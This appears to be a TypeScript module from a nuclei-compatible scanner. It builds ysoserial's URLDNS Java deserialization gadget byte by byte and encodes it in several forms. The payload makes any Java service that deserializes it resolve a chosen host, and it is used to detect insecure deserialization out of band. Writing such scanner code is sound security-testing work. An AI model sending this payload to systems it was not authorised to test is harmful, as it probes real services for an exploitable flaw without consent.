import { gzipSync } from 'node:zlib';
import { DslRuntimeError } from './dsl-functions.ts';

/**
 * nuclei's `generate_java_gadget(kind, value, encoding)` for the one kind the out-of-band
 * templates use that needs no third-party bytecode: `dns`, ysoserial's URLDNS chain. It is a
 * `java.util.HashMap` whose one key is a `java.net.URL` with its cached hash code unset, so a
 * Java service that deserializes it hashes the URL — and resolves its host name. Written here
 * from the Java Object Serialization Stream Protocol (spec chapter 6), not copied bytes.
 */

const TC_NULL = 0x70;
const TC_REFERENCE = 0x71;
const TC_CLASSDESC = 0x72;
const TC_OBJECT = 0x73;
const TC_STRING = 0x74;
const TC_BLOCKDATA = 0x77;
const TC_ENDBLOCKDATA = 0x78;
const SC_SERIALIZABLE_WITH_WRITE_METHOD = 0x03;
const BASE_HANDLE = 0x7e0000;

class StreamWriter {
  private readonly parts: Buffer[] = [];
  private nextHandle = BASE_HANDLE;

  byte(b: number): this {
    this.parts.push(Buffer.from([b]));
    return this;
  }
  short(n: number): this {
    const b = Buffer.alloc(2);
    b.writeUInt16BE(n);
    this.parts.push(b);
    return this;
  }
  int(n: number): this {
    const b = Buffer.alloc(4);
    b.writeInt32BE(n);
    this.parts.push(b);
    return this;
  }
  float(n: number): this {
    const b = Buffer.alloc(4);
    b.writeFloatBE(n);
    this.parts.push(b);
    return this;
  }
  hex(h: string): this {
    this.parts.push(Buffer.from(h, 'hex'));
    return this;
  }
  /** Java's modified UTF-8 with a 2-byte length (the same bytes as UTF-8 for these texts). */
  utf(s: string): this {
    const b = Buffer.from(s, 'utf8');
    if (b.length > 0xffff) throw new DslRuntimeError('generate_java_gadget: text too long');
    return this.short(b.length).raw(b);
  }
  raw(b: Buffer): this {
    this.parts.push(b);
    return this;
  }
  /** Every class description, object and string gets the next handle, in writing order. */
  handle(): number {
    return this.nextHandle++;
  }
  string(s: string): number {
    this.byte(TC_STRING).utf(s);
    return this.handle();
  }
  done(): Buffer {
    return Buffer.concat(this.parts);
  }
}

/** protocol, host, port, file as java.net.URL splits them. */
function splitUrl(url: string): {
  protocol: string;
  host: string;
  port: number;
  file: string;
  authority: string;
} {
  const m = /^([a-z][a-z0-9+.-]*):\/\/([^/?#]*)(.*)$/i.exec(url);
  const protocol = m ? (m[1] as string).toLowerCase() : 'http';
  const authority = m ? (m[2] as string) : (url.split(/[/?#]/, 1)[0] ?? url);
  const rest = m ? (m[3] as string) : url.slice(authority.length);
  const file = rest.split('#', 1)[0] ?? '';
  const at = authority.lastIndexOf('@');
  const hostPort = at >= 0 ? authority.slice(at + 1) : authority;
  const pm = /^(.*?)(?::(\d+))?$/.exec(hostPort) as RegExpExecArray;
  return { protocol, host: pm[1] as string, port: pm[2] ? Number(pm[2]) : -1, file, authority };
}

/** The URLDNS object stream for a URL. */
export function urlDnsGadget(url: string): Buffer {
  const u = splitUrl(url);
  const w = new StreamWriter();
  w.hex('aced0005');
  // HashMap: its class description, then its fields, then what its writeObject adds.
  w.byte(TC_OBJECT).byte(TC_CLASSDESC).utf('java.util.HashMap').hex('0507dac1c31660d1');
  w.handle();
  w.byte(SC_SERIALIZABLE_WITH_WRITE_METHOD).short(2);
  w.byte(0x46).utf('loadFactor'); // 'F'
  w.byte(0x49).utf('threshold'); // 'I'
  w.byte(TC_ENDBLOCKDATA).byte(TC_NULL);
  w.handle();
  w.float(0.75).int(12);
  // capacity, size
  w.byte(TC_BLOCKDATA).byte(8).int(16).int(1);
  // The key: a java.net.URL (fields in serialization order: primitives, then objects, by name).
  w.byte(TC_OBJECT).byte(TC_CLASSDESC).utf('java.net.URL').hex('962537361afce472');
  w.handle();
  w.byte(SC_SERIALIZABLE_WITH_WRITE_METHOD).short(7);
  w.byte(0x49).utf('hashCode');
  w.byte(0x49).utf('port');
  w.byte(0x4c).utf('authority'); // 'L'
  const stringType = w.string('Ljava/lang/String;');
  for (const name of ['file', 'host', 'protocol', 'ref'])
    w.byte(0x4c).utf(name).byte(TC_REFERENCE).int(stringType);
  w.byte(TC_ENDBLOCKDATA).byte(TC_NULL);
  w.handle();
  // hashCode -1: recomputed (and the host resolved) when the map is rebuilt.
  w.int(-1).int(u.port);
  w.string(u.authority);
  w.string(u.file);
  w.string(u.host);
  w.string(u.protocol);
  w.byte(TC_NULL);
  w.byte(TC_ENDBLOCKDATA);
  // The value: the URL text.
  w.string(url);
  w.byte(TC_ENDBLOCKDATA);
  return w.done();
}

/** nuclei's encodings of a gadget: base64 (default, `+` as `%2B`), base64-raw, hex, raw, gzip, gzip-base64. */
function encodeGadget(bytes: Buffer, encoding: string): string {
  switch (encoding) {
    case 'raw':
      return bytes.toString('latin1');
    case 'hex':
      return bytes.toString('hex');
    case 'gzip':
      return gzipSync(bytes).toString('latin1');
    case 'gzip-base64':
      return gzipSync(bytes).toString('base64').replaceAll('+', '%2B');
    case 'base64-raw':
      return bytes.toString('base64');
    default:
      return bytes.toString('base64').replaceAll('+', '%2B');
  }
}

/** `generate_java_gadget(kind, value, encoding)`: the `dns` kind (URLDNS); others are not shipped. */
export function generateJavaGadget(kind: string, value: string, encoding: string): string {
  if (kind !== 'dns') throw new DslRuntimeError(`generate_java_gadget: gadget '${kind}' is not shipped`);
  return encodeGadget(urlDnsGadget(value), encoding);
}
